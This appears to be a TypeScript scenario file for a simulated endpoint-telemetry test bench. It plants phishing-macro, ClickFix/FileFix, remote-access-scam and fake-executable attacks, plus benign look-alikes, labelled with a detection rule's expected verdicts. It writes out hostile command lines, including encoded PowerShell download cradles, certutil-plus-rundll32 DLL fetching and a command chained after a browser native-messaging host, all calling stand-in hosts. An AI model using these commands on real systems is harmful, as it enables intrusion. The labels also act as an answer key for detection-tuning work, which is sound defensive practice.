import type { Host, UserSession } from './boot.js';
import type { Proc } from './device.js';
import { systemAccount, ticksPerSecond } from './device.js';
import type { Image } from './images.js';
import { apps, makeImage } from './images.js';

/** DetectionCategory values of the reference rule. */
export const categories = {
  shellSpawn: 'Office/Browser Shell Spawn',
  remoteAccessTool: 'Remote Access Tool Execution (Possible Social Engineering)',
  userWritable: 'Executable Launched from User-Writable Directory',
} as const;

/** The rule's four documented false-positive classes, as short identifiers. */
export type FalsePositiveClass = 'it-remote-tool' | 'developer-tool' | 'finance-macro' | 'roaming-helper';

/** Meaning of a planted row, and the reference rule's verdict on it. */
export interface PlantedMeta {
  nature: 'attack' | 'benign';
  /** True when the reference rule raises an alert on this row. */
  alerts: boolean;
  /** The rule's DetectionCategory when it alerts, else null. */
  category: string | null;
  /** The rule's false-positive class that a benign alert belongs to. */
  falsePositiveClass?: FalsePositiveClass;
  /** The exception test case this row reproduces. */
  tuningCase?: string;
  description: string;
}

export interface PlantedProc extends PlantedMeta {
  id: string;
  scenario: string;
  host: Host;
  proc: Proc;
}

/** A story planted in the day: a lure and what it runs, or a benign look-alike. */
export interface Scenario {
  id: string;
  /** Short host name, e.g. "ws-fin-02". */
  host: string;
  nature: 'attack' | 'benign';
  summary: string;
  run(context: ScenarioContext): void;
}

export interface ScenarioContext {
  host: Host;
  session: UserSession | undefined;
  /** Ticks of a wall-clock time on the simulated day. */
  at(hours: number, minutes: number, seconds?: number): number;
  plant(proc: Proc, meta: PlantedMeta): Proc;
}

/** Encodes a PowerShell command as -EncodedCommand expects: base64 of UTF-16LE. */
export function encodePowerShell(command: string): string {
  return Buffer.from(command, 'utf16le').toString('base64');
}

function userSession(context: ScenarioContext): UserSession {
  if (!context.session) throw new Error(`${context.host.sim.device.name} has no user session for a planted scenario`);
  return context.session;
}

function unsigned(path: string, size: number, build: string, info: Partial<Parameters<typeof makeImage>[1]> = {}): Image {
  return makeImage(path, { size, build, ...info });
}

const anyDeskPortable = (user: string) =>
  makeImage(`C:\\Users\\${user}\\Downloads\\AnyDesk.exe`, {
    company: 'AnyDesk Software GmbH', product: 'AnyDesk', version: '9.6.2', description: 'AnyDesk',
    originalFileName: 'AnyDesk.exe', internalName: 'AnyDesk', size: 5356352, build: 'portable',
  });

const nativeHostCommand = (user: string) =>
  `C:\\WINDOWS\\system32\\cmd.exe /d /s /c ""C:\\Users\\${user}\\AppData\\Local\\NoteSync\\host.bat" chrome-extension://abcdefghijklmnopabcdefghijklmnop/"`;

const stagerPayload = encodePowerShell(
  "$u='https://cdn-updates.example.invalid/s.ps1';IEX (New-Object Net.WebClient).DownloadString($u)",
);

/**
 * Every planted scenario, in time order per host. Times fall between 09:00 and 16:30, when every
 * workstation user is logged on.
 */
export const scenarios: Scenario[] = [
  {
    id: 'word-macro-powershell',
    host: 'ws-fin-02',
    nature: 'attack',
    summary: 'Remittance advice attachment opened from Outlook; its macro starts an encoded PowerShell stager.',
    run(c) {
      const s = userSession(c);
      const outlook = s.outlook!;
      const word = c.plant(
        c.host.sim.spawn(outlook, apps.winword, `"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE" /n "C:\\Users\\${s.account.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7M2ZK1T\\Remittance_Advice_88213.doc" /o ""`, c.at(9, 42, 5)),
        { nature: 'attack', alerts: false, category: null, description: 'Lure: Word opens a macro document saved from an Outlook attachment (parent OUTLOOK.EXE; Word is not a shell).' },
      );
      const ps = c.plant(
        c.host.sim.spawn(word, c.host.sim.images.powershell, `powershell.exe -nop -w hidden -enc ${stagerPayload}`, c.at(9, 42, 31)),
        { nature: 'attack', alerts: true, category: categories.shellSpawn, description: 'Macro in the Word document starts a hidden PowerShell with an encoded download cradle.' },
      );
      c.host.sim.console(ps);
    },
  },
  {
    id: 'excel-macro-certutil',
    host: 'ws-fin-04',
    nature: 'attack',
    summary: 'Macro workbook from Downloads runs cmd, which fetches a DLL with certutil and loads it with rundll32.',
    run(c) {
      const s = userSession(c);
      const sim = c.host.sim;
      const excel = c.plant(
        sim.spawn(s.explorer, apps.excel, `"C:\\Program Files\\Microsoft Office\\Root\\Office16\\EXCEL.EXE" "C:\\Users\\${s.account.name}\\Downloads\\Payment_Schedule_Dec.xlsm"`, c.at(10, 58, 2)),
        { nature: 'attack', alerts: false, category: null, description: 'Lure: the user opens a macro workbook from Downloads (Excel is not in the rule\'s user-writable check because only .exe files in those folders count).' },
      );
      const dropPath = 'C:\\Users\\Public\\Libraries\\lib.dat';
      const cmd = c.plant(
        sim.spawn(excel, sim.images.cmd, `cmd.exe /c "certutil -urlcache -split -f http://files.example.invalid/lib.dat ${dropPath} && rundll32 ${dropPath},DllRegisterServer"`, c.at(10, 58, 40)),
        { nature: 'attack', alerts: true, category: categories.shellSpawn, description: 'Macro starts cmd.exe to download and run a DLL.' },
      );
      sim.console(cmd);
      c.plant(
        sim.spawn(cmd, sim.images.certutil, `certutil  -urlcache -split -f http://files.example.invalid/lib.dat ${dropPath}`, c.at(10, 58, 41)),
        { nature: 'attack', alerts: false, category: null, description: 'certutil downloads the DLL; its parent is cmd.exe, not an Office app, so the rule stays silent.' },
      );
      c.plant(
        sim.spawn(cmd, sim.images.rundll32, `rundll32  ${dropPath},DllRegisterServer`, c.at(10, 58, 44)),
        { nature: 'attack', alerts: false, category: null, description: 'rundll32 loads the downloaded DLL; parent cmd.exe, so no alert.' },
      );
    },
  },
  {
    id: 'finance-macro-ledger-export',
    host: 'ws-fin-01',
    nature: 'benign',
    summary: 'Finance\'s month-end workbook on the file share runs its PowerShell export script.',
    run(c) {
      financeMacro(c, c.at(14, 5, 10));
    },
  },
  {
    id: 'finance-macro-ledger-export-2',
    host: 'ws-fin-03',
    nature: 'benign',
    summary: 'The same month-end export on a second finance workstation.',
    run(c) {
      financeMacro(c, c.at(15, 20, 45));
    },
  },
  {
    id: 'filefix-mshta',
    host: 'ws-sal-03',
    nature: 'attack',
    summary: 'Fake CAPTCHA page makes the user paste a command into the browser\'s file-upload dialog address bar (FileFix), so Chrome starts mshta.',
    run(c) {
      const s = userSession(c);
      const sim = c.host.sim;
      const mshta = c.plant(
        sim.spawn(s.browser, sim.images.mshta, '"C:\\WINDOWS\\system32\\mshta.exe" https://captcha-check.example.invalid/verify.hta # C:\\company\\internal-secure\\filedrive\\HRPolicy.docx', c.at(11, 17, 12)),
        { nature: 'attack', alerts: true, category: categories.shellSpawn, description: 'FileFix-style paste: the command runs as a child of the browser that owns the file dialog.' },
      );
      c.plant(
        sim.spawn(mshta, sim.images.powershell, `"C:\\WINDOWS\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -w 1 -ep bypass -enc ${stagerPayload}`, c.at(11, 17, 16)),
        { nature: 'attack', alerts: false, category: null, description: 'The HTA starts PowerShell; parent mshta.exe is not in the rule\'s parent list, so no alert.' },
      );
    },
  },
  {
    id: 'clickfix-run-dialog',
    host: 'ws-sal-05',
    nature: 'attack',
    summary: 'Classic ClickFix: the user pastes a PowerShell command into Win+R; the rule has no clause for it.',
    run(c) {
      const s = userSession(c);
      const sim = c.host.sim;
      const ps = c.plant(
        sim.spawn(s.explorer, sim.images.powershell, '"C:\\WINDOWS\\system32\\WindowsPowerShell\\v1.0\\PowerShell.exe" -w h -c "iwr https://captcha-check.example.invalid/c.txt -UseBasicParsing|iex" # I am not a robot - reCAPTCHA Verification ID: 4821', c.at(13, 36, 20)),
        { nature: 'attack', alerts: false, category: null, description: 'Missed by the reference rule: explorer.exe is not an Office or browser parent and powershell.exe is not run from a user-writable folder.' },
      );
      sim.console(ps);
    },
  },
  {
    id: 'native-messaging-host',
    host: 'ws-sal-01',
    nature: 'benign',
    summary: 'Chrome starts a note-taking extension\'s native-messaging host through cmd.exe, as Chrome does for every such host on Windows.',
    run(c) {
      nativeHost(c, c.at(9, 51, 3));
      nativeHost(c, c.at(13, 2, 48));
    },
  },
  {
    id: 'native-messaging-host-2',
    host: 'ws-eng-01',
    nature: 'benign',
    summary: 'The same native-messaging host on an engineering workstation.',
    run(c) {
      nativeHost(c, c.at(10, 12, 30));
    },
  },
  {
    id: 'native-messaging-host-chained',
    host: 'ws-eng-05',
    nature: 'attack',
    summary: 'A hijacked extension abuses the native-messaging host command line to chain an encoded PowerShell.',
    run(c) {
      const s = userSession(c);
      const sim = c.host.sim;
      const cmd = c.plant(
        sim.spawn(s.browser, sim.images.cmd, `${nativeHostCommand(s.account.name)} & powershell -enc ${stagerPayload}`, c.at(15, 44, 9)),
        { nature: 'attack', alerts: true, category: categories.shellSpawn, tuningCase: 'T1c', description: 'Looks like the native-messaging host but chains PowerShell after the quoted host: an exception for the host must not hide it.' },
      );
      sim.console(cmd);
      c.plant(
        sim.spawn(cmd, sim.images.powershell, `powershell  -enc ${stagerPayload}`, c.at(15, 44, 10)),
        { nature: 'attack', alerts: false, category: null, description: 'The chained PowerShell; parent cmd.exe, so no alert of its own.' },
      );
    },
  },
  {
    id: 'anydesk-from-browser',
    host: 'ws-sal-02',
    nature: 'attack',
    summary: 'Tech-support scam: the caller has the user download AnyDesk and open it from the browser\'s download bar.',
    run(c) {
      const s = userSession(c);
      const sim = c.host.sim;
      const image = anyDeskPortable(s.account.name);
      const anydesk = c.plant(
        sim.spawn(s.browser, image, `"C:\\Users\\${s.account.name}\\Downloads\\AnyDesk.exe" `, c.at(10, 26, 14)),
        { nature: 'attack', alerts: true, category: categories.remoteAccessTool, description: 'Portable AnyDesk from Downloads started by the browser.' },
      );
      c.plant(
        sim.spawn(anydesk, image, `"C:\\Users\\${s.account.name}\\Downloads\\AnyDesk.exe" --local-control`, c.at(10, 26, 16)),
        { nature: 'attack', alerts: true, category: categories.remoteAccessTool, description: 'AnyDesk starts its control process; the file name alone makes the rule alert again.' },
      );
    },
  },
  {
    id: 'anydesk-from-explorer',
    host: 'ws-eng-03',
    nature: 'attack',
    summary: 'A caller posing as the helpdesk talks the user into running AnyDesk from Downloads.',
    run(c) {
      const s = userSession(c);
      c.plant(
        c.host.sim.spawn(s.explorer, anyDeskPortable(s.account.name), `"C:\\Users\\${s.account.name}\\Downloads\\AnyDesk.exe" `, c.at(16, 2, 37)),
        { nature: 'attack', alerts: true, category: categories.remoteAccessTool, description: 'AnyDesk double-clicked in Downloads. It is also a user-writable-folder launch, but the rule\'s case() reports the remote-access category first.' },
      );
    },
  },
  {
    id: 'screenconnect-setup',
    host: 'ws-sal-04',
    nature: 'attack',
    summary: 'The user runs a ScreenConnect client installer from Downloads; the installed client connects to the attacker\'s relay.',
    run(c) {
      const s = userSession(c);
      const sim = c.host.sim;
      const user = s.account.name;
      const setupImage = makeImage(`C:\\Users\\${user}\\Downloads\\ScreenConnect.ClientSetup.exe`, {
        company: 'ConnectWise, LLC', product: 'ScreenConnect', version: '25.4.16.9293', description: 'ScreenConnect Client Setup',
        originalFileName: 'ScreenConnect.ClientSetup.exe', internalName: 'ScreenConnect.ClientSetup', size: 5543864,
      });
      const setup = c.plant(
        sim.spawn(s.explorer, setupImage, `"C:\\Users\\${user}\\Downloads\\ScreenConnect.ClientSetup.exe" `, c.at(14, 48, 2)),
        { nature: 'attack', alerts: true, category: categories.userWritable, description: 'ScreenConnect installer double-clicked in Downloads. The rule\'s remote-access list names screenconnect.exe, which this file name does not match as a term, so the folder clause catches it.' },
      );
      c.plant(
        sim.spawn(setup, sim.images.msiexec, `"C:\\WINDOWS\\system32\\msiexec.exe" /i "C:\\Users\\${user}\\AppData\\Local\\Temp\\ScreenConnect\\25.4.16.9293\\setup.msi" /qn`, c.at(14, 48, 6)),
        { nature: 'attack', alerts: false, category: null, description: 'The installer hands its MSI to msiexec; no clause matches.' },
      );
      const clientService = makeImage('C:\\Program Files (x86)\\ScreenConnect Client (5a1b9c0e2f4d7a63)\\ScreenConnect.ClientService.exe', {
        company: 'ConnectWise, LLC', product: 'ScreenConnect', version: '25.4.16.9293', description: 'ScreenConnect Client Service',
        originalFileName: 'ScreenConnect.ClientService.exe', internalName: 'ScreenConnect.ClientService', size: 94776,
      });
      const service = c.plant(
        sim.spawn(c.host.services, clientService, '"C:\\Program Files (x86)\\ScreenConnect Client (5a1b9c0e2f4d7a63)\\ScreenConnect.ClientService.exe" "?e=Access&y=Guest&h=relay.helpdesk-portal.example.invalid&p=8041&s=2c6e1f0a-93b4-4d7e-b8a1-5f0c3d9e7a21&k=BgIAAACkAABSU0Ex&c=&c=&c=&c=&c=&c=&c=&c="', c.at(14, 48, 31), {
          account: systemAccount, integrity: 'System', elevation: 'TokenElevationTypeDefault',
        }),
        { nature: 'attack', alerts: false, category: null, description: 'The installed ScreenConnect service with the attacker\'s relay in its arguments; started by services.exe from Program Files, so no clause matches.' },
      );
      const windowsClient = makeImage('C:\\Program Files (x86)\\ScreenConnect Client (5a1b9c0e2f4d7a63)\\ScreenConnect.WindowsClient.exe', {
        company: 'ConnectWise, LLC', product: 'ScreenConnect', version: '25.4.16.9293', description: 'ScreenConnect Client',
        originalFileName: 'ScreenConnect.WindowsClient.exe', internalName: 'ScreenConnect.WindowsClient', size: 637240,
      });
      c.plant(
        sim.spawn(service, windowsClient, '"C:\\Program Files (x86)\\ScreenConnect Client (5a1b9c0e2f4d7a63)\\ScreenConnect.WindowsClient.exe" "RunRole" "82f1e4a0-77c3-4b9d-a0e5-1c2d3b4a5f60" "Guest"', c.at(14, 49, 3), {
          account: s.account, integrity: 'Medium', elevation: 'TokenElevationTypeLimited',
        }),
        { nature: 'attack', alerts: false, category: null, description: 'The ScreenConnect session client in the user\'s session: the remote operator is connected. No clause matches.' },
      );
    },
  },
  userFolderAttack('downloads-double-extension', 'ws-eng-04', [11, 49, 17], (u) => `C:\\Users\\${u}\\Downloads\\Invoice_2026-11.pdf.exe`,
    'Invoice with a double extension, downloaded from a phishing link and double-clicked.'),
  userFolderAttack('desktop-shipping-label', 'ws-sal-05', [9, 58, 40], (u) => `C:\\Users\\${u}\\Desktop\\Shipping_Label_DHL.exe`,
    'Fake shipping label saved to the Desktop and double-clicked.'),
  userFolderAttack('temp-zip-quote', 'ws-fin-01', [11, 21, 6], (u) => `C:\\Users\\${u}\\AppData\\Local\\Temp\\Temp1_Quote_8841.zip\\Quote_8841.exe`,
    'Executable run from inside a ZIP attachment: Explorer extracts it to a Temp1_* folder under AppData\\Local\\Temp.'),
  userFolderAttack('public-documents', 'ws-eng-06', [12, 33, 51], () => 'C:\\Users\\Public\\Documents\\Scan_0042.exe',
    'Loader that an earlier stage dropped into C:\\Users\\Public, opened by the user who took it for a scan.'),
  userFolderAttack('roaming-fake-update', 'ws-fin-04', [15, 33, 28], (u) => `C:\\Users\\${u}\\AppData\\Roaming\\BrowserUpdate\\ChromeUpdate.exe`,
    'Fake browser update (SocGholish style) saved under AppData\\Roaming and started from its Desktop shortcut.'),
  {
    id: 'roaming-spotify',
    host: 'ws-eng-02',
    nature: 'benign',
    summary: 'Spotify, installed per user under AppData\\Roaming, started from the Start menu.',
    run(c) {
      const s = userSession(c);
      const image = makeImage(`C:\\Users\\${s.account.name}\\AppData\\Roaming\\Spotify\\Spotify.exe`, {
        company: 'Spotify Ltd', product: 'Spotify', version: '1.2.77.358', description: 'Spotify',
        originalFileName: 'Spotify.exe', internalName: 'Spotify', size: 29651224,
      });
      c.plant(
        c.host.sim.spawn(s.explorer, image, `"C:\\Users\\${s.account.name}\\AppData\\Roaming\\Spotify\\Spotify.exe" `, c.at(9, 15, 44)),
        { nature: 'benign', alerts: true, category: categories.userWritable, falsePositiveClass: 'roaming-helper', description: 'Signed per-user application in AppData\\Roaming: a baseline of expected binaries per application covers it.' },
      );
    },
  },
  {
    id: 'developer-procmon',
    host: 'ws-eng-01',
    nature: 'benign',
    summary: 'A developer runs Sysinternals Process Monitor, unpacked in Downloads.',
    run(c) {
      const s = userSession(c);
      const image = makeImage(`C:\\Users\\${s.account.name}\\Downloads\\ProcessMonitor\\Procmon64.exe`, {
        company: 'Sysinternals - www.sysinternals.com', product: 'Sysinternals Process Monitor', version: '4.01',
        description: 'Process Monitor', originalFileName: 'Procmon', internalName: 'Process Monitor', size: 2104720,
      });
      c.plant(
        c.host.sim.spawn(s.explorer, image, `"C:\\Users\\${s.account.name}\\Downloads\\ProcessMonitor\\Procmon64.exe" `, c.at(10, 40, 12)),
        { nature: 'benign', alerts: true, category: categories.userWritable, falsePositiveClass: 'developer-tool', description: 'Developer tool double-clicked in Downloads on an engineering workstation.' },
      );
    },
  },
  {
    id: 'developer-jq-terminal',
    host: 'ws-eng-01',
    nature: 'benign',
    summary: 'The same developer runs jq from Downloads in a PowerShell window.',
    run(c) {
      const s = userSession(c);
      const sim = c.host.sim;
      const ps = c.plant(
        sim.spawn(s.explorer, sim.images.powershell, '"C:\\WINDOWS\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" ', c.at(10, 52, 0)),
        { nature: 'benign', alerts: false, category: null, description: 'The developer opens PowerShell from the Start menu (explorer.exe parent, System32 path: no clause matches).' },
      );
      sim.console(ps);
      const jq = makeImage(`C:\\Users\\${s.account.name}\\Downloads\\jq-windows-amd64.exe`, { size: 2443264, build: 'jq-1.8.1' });
      c.plant(
        sim.spawn(ps, jq, `"C:\\Users\\${s.account.name}\\Downloads\\jq-windows-amd64.exe" ".items[0]" build.json`, c.at(10, 52, 47)),
        { nature: 'benign', alerts: false, category: null, description: 'Near miss: a tool from Downloads started by powershell.exe; the folder clause only counts explorer.exe launches.' },
      );
    },
  },
  {
    id: 'developer-wireshark-desktop',
    host: 'ws-eng-02',
    nature: 'benign',
    summary: 'A developer starts a portable Wireshark kept in a Desktop tools folder.',
    run(c) {
      const s = userSession(c);
      const image = makeImage(`C:\\Users\\${s.account.name}\\Desktop\\tools\\WiresharkPortable64.exe`, {
        company: 'PortableApps.com', product: 'Wireshark Portable', version: '4.6.1.0', description: 'Wireshark Portable',
        originalFileName: 'WiresharkPortable64.exe', internalName: 'WiresharkPortable64', size: 301736,
      });
      c.plant(
        c.host.sim.spawn(s.explorer, image, `"C:\\Users\\${s.account.name}\\Desktop\\tools\\WiresharkPortable64.exe" `, c.at(13, 12, 9)),
        { nature: 'benign', alerts: true, category: categories.userWritable, falsePositiveClass: 'developer-tool', description: 'Portable developer tool run from the Desktop.' },
      );
    },
  },
  nearMissExcluded('zoom-roaming', 'ws-sal-02', [9, 30, 2], (u) => `C:\\Users\\${u}\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe`,
    { company: 'Zoom Video Communications, Inc.', product: 'Zoom', version: '6.6.10.23183', description: 'Zoom Workplace', size: 499928 },
    '"{path}" "--url=zoommtg://zoom.us/join?action=join&confno=84512993017"',
    'Zoom installed per user under AppData\\Roaming; Zoom.exe is in the rule\'s excluded names.'),
  nearMissExcluded('zoom-roaming-2', 'ws-sal-04', [10, 0, 31], (u) => `C:\\Users\\${u}\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe`,
    { company: 'Zoom Video Communications, Inc.', product: 'Zoom', version: '6.6.10.23183', description: 'Zoom Workplace', size: 499928 },
    '"{path}" ',
    'Zoom from AppData\\Roaming on a second sales workstation; excluded by name.'),
  nearMissExcluded('teams-roaming', 'ws-sal-01', [9, 5, 18], (u) => `C:\\Users\\${u}\\AppData\\Roaming\\Microsoft\\Teams\\current\\Teams.exe`,
    { company: 'Microsoft Corporation', product: 'Microsoft Teams', version: '1.8.00.7262', description: 'Microsoft Teams (work or school)', size: 133281192 },
    '"{path}" --process-start-args "--profile=AAD"',
    'Leftover per-user classic Teams under AppData\\Roaming; Teams.exe is in the rule\'s excluded names.'),
  nearMissExcluded('setup-downloads', 'ws-eng-06', [14, 20, 55], (u) => `C:\\Users\\${u}\\Downloads\\LogiOptionsPlus\\setup.exe`,
    { company: 'Logitech', product: 'Logi Options+', version: '1.94.793582', description: 'Logi Options+ installer', size: 8754176 },
    '"{path}" ',
    'Vendor installer named setup.exe in Downloads; excluded by name (an attacker could use the same name, which the rule would miss).'),
  {
    id: 'anydesk-service-server',
    host: 'srv-app-01',
    nature: 'benign',
    summary: 'AnyDesk, installed by IT as a service for vendor support, starts with the server.',
    run(c) {
      anyDeskService(c);
    },
  },
  {
    id: 'anydesk-service-helpdesk',
    host: 'ws-it-01',
    nature: 'benign',
    summary: 'The helpdesk workstation\'s AnyDesk service starts at boot.',
    run(c) {
      anyDeskService(c);
    },
  },
  {
    id: 'teamviewer-it-deploy',
    host: 'ws-fin-02',
    nature: 'benign',
    summary: 'IT deploys TeamViewer through Intune: msiexec installs it and assigns the device to the company account.',
    run(c) {
      teamViewerDeploy(c, c.at(12, 10, 4));
    },
  },
  {
    id: 'teamviewer-it-deploy-2',
    host: 'ws-fin-03',
    nature: 'benign',
    summary: 'The same TeamViewer rollout on the next finance workstation.',
    run(c) {
      teamViewerDeploy(c, c.at(12, 14, 37));
    },
  },
  {
    id: 'teamviewer-helpdesk-session',
    host: 'ws-it-01',
    nature: 'benign',
    summary: 'A helpdesk technician starts TeamViewer from the Start menu to support a user.',
    run(c) {
      const s = userSession(c);
      c.plant(
        c.host.sim.spawn(s.explorer, apps.teamViewer, '"C:\\Program Files\\TeamViewer\\TeamViewer.exe" ', c.at(10, 15, 20)),
        { nature: 'benign', alerts: true, category: categories.remoteAccessTool, falsePositiveClass: 'it-remote-tool', description: 'IT-installed TeamViewer from Program Files, started by the helpdesk technician (explorer.exe parent).' },
      );
    },
  },
];

function financeMacro(c: ScenarioContext, at: number): void {
  const s = userSession(c);
  const sim = c.host.sim;
  const excel = c.plant(
    sim.spawn(s.explorer, apps.excel, '"C:\\Program Files\\Microsoft Office\\Root\\Office16\\EXCEL.EXE" "\\\\srv-file-01.corp.example\\finance\\Macros\\Ledger export.xlsm"', at),
    { nature: 'benign', alerts: false, category: null, description: 'Finance opens the team\'s month-end macro workbook from the file share.' },
  );
  const ps = c.plant(
    sim.spawn(excel, sim.images.powershell, 'powershell.exe -NoProfile -ExecutionPolicy Bypass -File "\\\\srv-file-01.corp.example\\finance\\Macros\\Export-Ledger.ps1" -Period 2026-11', at + 25 * ticksPerSecond),
    { nature: 'benign', alerts: true, category: categories.shellSpawn, falsePositiveClass: 'finance-macro', description: 'Documented finance macro: Excel runs the export script from the finance share.' },
  );
  sim.console(ps);
}

function nativeHost(c: ScenarioContext, at: number): void {
  const s = userSession(c);
  const sim = c.host.sim;
  const cmd = c.plant(
    sim.spawn(s.browser, sim.images.cmd, nativeHostCommand(s.account.name), at),
    { nature: 'benign', alerts: true, category: categories.shellSpawn, falsePositiveClass: 'roaming-helper', tuningCase: 'T1a', description: 'Browser native-messaging host: Chrome runs the host batch file through cmd.exe /d /s /c with the extension origin as argument.' },
  );
  sim.console(cmd);
}

function anyDeskService(c: ScenarioContext): void {
  const sim = c.host.sim;
  c.plant(
    sim.spawn(c.host.services, apps.anyDeskService, '"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe" --service', c.host.services.created + 7 * ticksPerSecond, {
      account: systemAccount, integrity: 'System', elevation: 'TokenElevationTypeDefault',
    }),
    { nature: 'benign', alerts: true, category: categories.remoteAccessTool, falsePositiveClass: 'it-remote-tool', tuningCase: 'T2', description: 'IT-installed AnyDesk service from Program Files (x86), started by services.exe at boot.' },
  );
}

function teamViewerDeploy(c: ScenarioContext, at: number): void {
  const sim = c.host.sim;
  const system = { account: systemAccount, integrity: 'System', elevation: 'TokenElevationTypeDefault' };
  const agent = c.host.intune ?? c.host.services;
  const installer = c.plant(
    sim.spawn(agent, sim.images.msiexec, '"C:\\WINDOWS\\system32\\msiexec.exe" /i "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Content\\Incoming\\TeamViewer_Host.msi" /qn CUSTOMCONFIGID=6q7r8s9 ASSIGNMENTOPTIONS="--grant-easy-access"', at, system),
    { nature: 'benign', alerts: false, category: null, description: 'Intune management extension runs the TeamViewer Host MSI.' },
  );
  const server = c.plant(
    sim.spawn(c.host.services, sim.images.msiexec, 'C:\\WINDOWS\\system32\\msiexec.exe /V', at + 2 * ticksPerSecond, system),
    { nature: 'benign', alerts: false, category: null, description: 'The Windows Installer service process that performs the installation.' },
  );
  c.plant(
    sim.spawn(c.host.services, apps.teamViewerService, '"C:\\Program Files\\TeamViewer\\TeamViewer_Service.exe"', at + 40 * ticksPerSecond, system),
    { nature: 'benign', alerts: false, category: null, description: 'Near miss: TeamViewer_Service.exe does not contain the term teamviewer.exe, so the rule stays silent.' },
  );
  c.plant(
    sim.spawn(server, apps.teamViewer, '"C:\\Program Files\\TeamViewer\\TeamViewer.exe" assignment --id 0001CoABChBZ9v3mK2xQ1m7Y4sD8eT6fEigIACAAAAAgAAAAALr5NwM --device-alias=%COMPUTERNAME% --retries=3 --timeout=120', at + 45 * ticksPerSecond, system),
    { nature: 'benign', alerts: true, category: categories.remoteAccessTool, falsePositiveClass: 'it-remote-tool', description: 'The MSI assigns the new TeamViewer install to the company account (msiexec.exe parent, Program Files path).' },
  );
}

function userFolderAttack(id: string, host: string, time: [number, number, number], path: (user: string) => string, description: string): Scenario {
  return {
    id,
    host,
    nature: 'attack',
    summary: description,
    run(c) {
      const s = userSession(c);
      const fullPath = path(s.account.name);
      const image = unsigned(fullPath, 180000 + (id.length * 7919) % 900000, id);
      c.plant(
        c.host.sim.spawn(s.explorer, image, `"${fullPath}" `, c.at(...time)),
        { nature: 'attack', alerts: true, category: categories.userWritable, description },
      );
    },
  };
}

function nearMissExcluded(
  id: string,
  host: string,
  time: [number, number, number],
  path: (user: string) => string,
  info: { company: string; product: string; version: string; description: string; size: number },
  commandLine: string,
  description: string,
): Scenario {
  return {
    id,
    host,
    nature: 'benign',
    summary: description,
    run(c) {
      const s = userSession(c);
      const fullPath = path(s.account.name);
      const image = makeImage(fullPath, { ...info, originalFileName: fullPath.slice(fullPath.lastIndexOf('\\') + 1) });
      c.plant(
        c.host.sim.spawn(s.explorer, image, commandLine.replace('{path}', fullPath), c.at(...time)),
        { nature: 'benign', alerts: false, category: null, description },
      );
    },
  };
}

